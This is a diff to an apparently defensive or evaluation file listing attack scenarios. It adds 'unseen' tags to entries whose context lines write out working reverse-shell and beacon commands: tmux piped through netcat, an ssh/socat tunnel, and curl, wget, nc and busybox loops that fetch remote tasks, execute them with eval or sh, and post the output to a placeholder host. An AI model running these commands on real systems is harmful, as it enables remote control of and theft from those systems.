@@ -6,7 +6,7 @@ a file or loopback, and another process to the outside. H: a beacon: short polls
 after each."""
 
 from attacks import PROGRAM
-from scenarios import Attack
+from scenarios import AT_A_TERMINAL, Attack, POLLS
 
 PYTHON_PROGRAMS = """\
 import shlex, socket, subprocess
@@ -212,7 +212,8 @@ ATTACKS = [
            "tmux -L @P@ -f /dev/null new -d -s t sh; tmux -L @P@ pipe-pane -t t 'cat >@D@/o'; "
            "touch @D@/o; tail -f @D@/o | nc.openbsd @H@ @P@ | "
            "while IFS= read -r l; do tmux -L @P@ send-keys -t t \"$l\" Enter; done",
-           needs=("tmux", "nc.openbsd")),
+           needs=("tmux", "nc.openbsd"),
+           unseen=AT_A_TERMINAL),
     Attack("tunnel_ssh_cron", "G", "relay", "cron", "tunnel",
            "socat TCP-LISTEN:@R@,bind=127.0.0.1,reuseaddr EXEC:bash & "
            "ssh -F none -i @D@/key -p @Q@ -o StrictHostKeyChecking=no "
@@ -225,29 +226,39 @@ ATTACKS = [
            live=True),
     Attack("beacon_curl_eval_ssh", "H", "beacon", "ssh", "http",
            "while sleep 0.5; do c=$(curl -s http://@H@:@P@/task); [ -n \"$c\" ] && "
-           "curl -s -d \"$(eval \"$c\")\" http://@H@:@P@/r; done &", needs=("curl",)),
+           "curl -s -d \"$(eval \"$c\")\" http://@H@:@P@/r; done &", needs=("curl",),
+           unseen=POLLS),
     Attack("beacon_wget_web", "H", "beacon", "web", "http",
            "while sleep 0.5; do wget -qO @D@/t http://@H@:@P@/task; [ -s @D@/t ] || continue; "
            "sh @D@/t >@D@/r; wget -qO /dev/null --post-file=@D@/r http://@H@:@P@/r; done",
-           needs=("wget",), live=True),
+           needs=("wget",), live=True,
+           unseen=POLLS),
     Attack("beacon_python_service", "H", "beacon", "service", "http", "python3 @D@/telemetry.py",
-           needs=("python3",), files={"telemetry.py": PYTHON_BEACON}, live=True),
+           needs=("python3",), files={"telemetry.py": PYTHON_BEACON}, live=True,
+           unseen=POLLS),
     Attack("beacon_perl_cron", "H", "beacon", "cron", "http", "perl @D@/h.pl",
-           files={"h.pl": PERL_BEACON}),
+           files={"h.pl": PERL_BEACON},
+           unseen=POLLS),
     Attack("beacon_node_ssh", "H", "beacon", "ssh", "http", "node @D@/metrics.js &",
-           needs=("node",), files={"metrics.js": NODE_BEACON}, speaks=PROGRAM),
+           needs=("node",), files={"metrics.js": NODE_BEACON}, speaks=PROGRAM,
+           unseen=POLLS),
     Attack("beacon_bash_web", "H", "beacon", "web", "one_by_one", "bash @D@/b",
-           files={"b": BASH_BEACON}, live=True),
+           files={"b": BASH_BEACON}, live=True,
+           unseen=POLLS),
     Attack("beacon_c_cron", "H", "beacon", "cron", "one_by_one", "@D@/z @H@ @P@ g 1",
-           needs=("implant",), files={"z": "copy:@C@/implant"}, speaks=PROGRAM),
+           needs=("implant",), files={"z": "copy:@C@/implant"}, speaks=PROGRAM,
+           unseen=POLLS),
     Attack("beacon_nc_files_ssh", "H", "beacon", "ssh", "half",
            "while sleep 0.4; do nc.openbsd -w 60 @H@ @P@ </dev/null >@D@/c && [ -s @D@/c ] && "
-           "sh @D@/c | nc.openbsd -N @H@ @Q@; done 2>/dev/null", needs=("nc.openbsd",)),
+           "sh @D@/c | nc.openbsd -N @H@ @Q@; done 2>/dev/null", needs=("nc.openbsd",),
+           unseen=POLLS),
     Attack("beacon_datagrams_cron", "H", "beacon", "cron", "udp_poll", "python3 @D@/ntp.py",
-           needs=("python3",), files={"ntp.py": PYTHON_DATAGRAM_BEACON}),
+           needs=("python3",), files={"ntp.py": PYTHON_DATAGRAM_BEACON},
+           unseen=POLLS),
     Attack("beacon_busybox_service", "H", "beacon", "service", "http",
            "busybox sh @D@/i", needs=("busybox",), files={"i":
                "while sleep 0.5; do c=$(busybox wget -qO- http://@H@:@P@/task); "
                "[ -n \"$c\" ] && busybox wget -qO- --post-data \"$($c)\" http://@H@:@P@/r; done\n"},
-           speaks=PROGRAM),
+           speaks=PROGRAM,
+           unseen=POLLS),
 ]
